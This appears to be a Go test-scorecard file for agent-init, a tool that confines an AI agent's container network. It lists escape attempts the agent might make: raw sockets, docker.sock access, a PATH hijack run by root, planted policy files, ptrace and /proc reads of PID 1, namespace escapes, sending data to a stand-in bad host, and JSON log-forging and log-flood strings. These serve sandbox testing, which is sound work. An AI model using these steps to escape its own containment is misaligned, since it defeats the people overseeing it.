package scorecard

import (
	"strings"

	"github.com/agent-init/agent-init/internal/lab"
)

// frame is one of an Ethernet type that nobody uses, to everyone.
const frame = "ffffffffffff02000000000188b66c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b"

func localAttacks() []Attack {
	return []Attack{
		{ID: "E56", Title: "raw and packet sockets", Own: true, Won: true,
			Try:   []string{"socket packet raw 768", "socket packet dgram 768", "socket inet raw icmp", "socket inet6 raw icmpv6", "packet eth0 " + frame, "packet eth0 {frame4}", "packet eth0 {frame6}"},
			Tests: []string{"TestRawSocketsRefused"}},
		{ID: "E57", Title: "sockets of other families", Own: true, Won: true,
			Try:       []string{"socket vsock stream 0", "socket alg seqpacket 0", "socket key raw 2", "socket netlink raw 12"},
			Elsewhere: "The agent's container decides what sockets there are. Later versions of the engine's own seccomp profile refuse those of virtual machines.",
			Tests:     []string{"TestSocketFamiliesRefused"}},
		{ID: "E58", Title: "unix sockets", Won: true,
			Try:   []string{"unix {control}", "unix /var/run/docker.sock", "unix /run/containerd/containerd.sock"},
			Tests: []string{"TestUnixSocketsOfOthersRefused"}},
		{ID: "E59", Title: "setuid programs and capabilities of files", Own: true,
			Try: []string{"self"}, Judge: mayGain,
			Elsewhere: "The agent's container sets them. Give it no-new-privileges and no capabilities.",
			Tests:     []string{"TestSetuidProgramsGainNothing"}},
		{ID: "E60", Title: "running agent-init again", Won: true,
			Try:   []string{"run {agent-init} up", "run {agent-init} run -- true", "run {agent-init} sidecar", "run {agent-init} reload", "run {agent-init} allow {bad}", "run {agent-init} exec -- true"},
			Tests: []string{"TestAgentInitRunByTheAgentGainsNothing", "TestForgedStageGainsNothing"}},
		{ID: "E61", Title: "hostile PATH and environment", Own: true, Judge: ran,
			Try: []string{`run sh -c 'rm -f {workspace}/e61-ran; mkdir -p {workspace}/bin; cd {workspace}/bin; for f in nft iptables ip6tables iptables-restore ip6tables-restore ipset ip awk getent hostname modprobe; do printf "#!/bin/sh\n: >{workspace}/e61-ran\nPATH=/usr/sbin:/usr/bin:/sbin:/bin exec \$(basename \$0) \"\$@\"\n" >$f; chmod +x $f; done'`,
				"@restart", "run sh -c 'rm -r {workspace}/bin; test -e {workspace}/e61-ran'"},
			Tests: []string{"TestHostileEnvironmentIsIgnored"}},
		{ID: "E62", Title: "a policy in the workspace", Own: true,
			Try: []string{`run sh -c 'cd {workspace}; mkdir -p .agent-init agent-init allowlist.d; for d in . .agent-init agent-init allowlist.d; do echo {bad} >$d/allowlist.txt; echo {bad} >$d/more.txt; for f in policy .agent-init; do echo "domains: [{bad}]" >$d/$f.yaml; done; done'`,
				"@reload", "resolve {bad}", "tcp {bad4}:443", "@restart", "resolve {bad}", "tcp {bad4}:443"},
			Tests: []string{"TestWorkspaceHoldsNoPolicy"}},
		{ID: "E63", Title: "signals and ptrace against PID 1", Own: true, Won: true,
			Try:   []string{"kill {init} 0", "ptrace {init}", "vmwrite {init}", "getfd {init} 0"},
			Tests: []string{"TestNothingOfOursCanBeKilledOrTraced"}},
		{ID: "E64", Title: "what /proc shows of PID 1", Own: true, Won: true,
			Try:   []string{"read /proc/{init}/environ", "read /proc/{init}/maps", "read /proc/{init}/root/etc/passwd"},
			Tests: []string{"TestProcFilesGiveNothingAway"}},
		{ID: "E65", Title: "the control socket", Won: true,
			Try:   []string{"unix {control}", "write {run}/grants.json", "write {policy}"},
			Tests: []string{"TestNothingListensForOrders", "TestControlSocket"}},
		{ID: "E66", Title: "namespaces of one's own, and of others",
			Try:   []string{"setns /proc/{init}/ns/net tcp {bad4}:443", "unshare user tcp {bad4}:443", "unshare user,net tcp {bad4}:443", "unshare user ping -raw -timeout 500ms {bad4}"},
			Tests: []string{"TestNamespacesGainNothing"}},
		{ID: "E67", Title: "the packet filter's rules", Own: true, Won: true,
			Try:   []string{"nft", "unshare user nft", "write /proc/sys/net/ipv4/ip_forward"},
			Tests: []string{"TestTableCantBeTamperedWith", "TestForeignTableOpensNothing"}},
		{ID: "E68", Title: "legacy and nft rules side by side",
			Try:   []string{"@foreign", "tcp {bad4}:443", "tcp [{bad6}]:443", "dns 8.8.8.8:53 {bad} A", "@foreign away"},
			Tests: []string{"TestRulesOfBothIptablesOpenNothing"}},
		{ID: "E69", Title: "the moments of the start", Won: true,
			Try:   []string{"@latency 200ms", "@raced-restart tcp -timeout 500ms -send {bad} {bad4}:443", "@latency 0s"},
			Tests: []string{"TestNothingLeavesBeforeTheSeal", "TestAgentIsConfinedFromItsFirstMoment"}},
		{ID: "E70", Title: "errors that open the network", Won: true,
			Try:   []string{"@fresh --cap-add=NET_ADMIN do tcp {bad4}:443", "@fresh +-e +AGENT_INIT_CONFIG=/dev/null do tcp {bad4}:443"},
			Tests: []string{"TestFailureLeavesSealed", "TestDeadDNSLeavesSealed"}},
		{ID: "E71", Title: "the end of agent-init before the agent's",
			Try:   []string{`spawn e71 run sh -c 'trap "" TERM INT HUP; while :; do poke tcp -timeout 200ms -send {bad} {bad4}:443; done'`, "@sleep 500ms", "@restart"},
			Tests: []string{"TestEndOpensNothing", "TestKilledKeeperOpensNothing"}},
		{ID: "E72", Title: "restarts",
			Try:     []string{"resolve {sub}", "@restart", "tcp 45.30.72.1:443", "tcp {bad4}:443", "tcp [{bad6}]:443", "resolve {bad}"},
			Answers: map[string]func(*Setting) lab.Answer{"{sub}": addresses("45.30.72.1")},
			Watch:   []string{"45.30.72.1"},
			Tests:   []string{"TestRestartsOpenNothing", "TestRestartForgetsLeases"}},
		{ID: "E73", Title: "planted links", Own: true, Won: true,
			Try: []string{"run ln -s {workspace}/x /run/e73", "run ln -s {workspace}/x /var/log/e73", "run ln -s {workspace}/x /etc/e73", "run ln -s {workspace}/x {run}/e73",
				"run ln -sf {workspace}/x /var/log/agent-init/audit.jsonl"},
			Tests: []string{"TestLinksLeadNowhere"}},
		{ID: "E74", Title: "forged lines of the log", Judge: forged,
			Try: []string{"@log", `dns {resolver}:53 a","event":"forged","x":".{bad} A`, `tcp -esc 'GET / HTTP/1.1\r\nHost: {bad}\"\x7d\n\x7b\"seq\":1,\"event\":\"forged\",\"name\":\"forged\"\x7d\n\r\n\r\n' {ok4}:80`,
				`run sh -c 'f="{workspace}/\",\"event\":\"x"; cp /usr/local/bin/poke "$f"; "$f" resolve comm.{bad}; rm "$f"'`},
			Tests: []string{"TestLogCantBeForged"}},
		{ID: "E75", Title: "a drowned log", Judge: drowned,
			Try:   []string{"@log", "flood -n 20000 -spread 20000 45.40.0.1:9", "dns -n 5000 -c 8 {resolver}:53 {n}.{bad} A", "resolve after.{bad}"},
			Tests: []string{"TestLogFloodIsCounted", "TestFloodedLogRotates"}},
		{ID: "E76", Title: "patterns and times of what is allowed", Limit: "It can't be closed: every allowed request can be late by a bit. Allow little, and read the log."},
	}
}

// mayGain judges by what the kernel says of the agent: with privileges left to
// gain and nothing that forbids it, a setuid file is enough.
func mayGain(e *Evidence) []string {
	var out []string
	for _, p := range e.Said {
		status, _ := p.Detail["status"].(map[string]any)
		if status["NoNewPrivs"] == "0" && strings.Trim(str(status["CapBnd"]), "0") != "" {
			out = append(out, "no_new_privs is not set, and there are capabilities to gain")
		}
	}
	return out
}

// ran finds that a program which the agent has planted was started.
func ran(e *Evidence) []string {
	for _, s := range e.Said {
		if s.Op == "run" && s.OK && strings.Contains(strings.Join(s.Args, " "), "test -e") {
			return []string{"a program of the agent's was started by root"}
		}
	}
	return nil
}

func str(v any) string {
	s, _ := v.(string)
	return s
}
